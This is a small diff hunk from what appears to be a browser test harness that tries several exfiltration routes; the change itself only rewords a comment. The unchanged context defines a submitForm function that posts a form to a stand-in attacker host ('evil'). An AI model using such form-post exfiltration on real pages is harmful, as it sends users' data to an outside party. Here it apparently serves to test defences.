@@ -170,7 +170,7 @@ for (const [kind, src] of Object.entries({
 await Promise.all(Object.entries(attempts).map(([name, act]) => attempt(name, act)))
 console.log('tried', results)
 window.results = results
-// It leaves the page where nothing holds it, so it comes last.
+// This attempt leaves the page if nothing stops it, so it comes last.
 window.submitForm = () => {
   const form = element('form', { action: `${evil}/form`, method: 'post' })
   document.body.append(form)
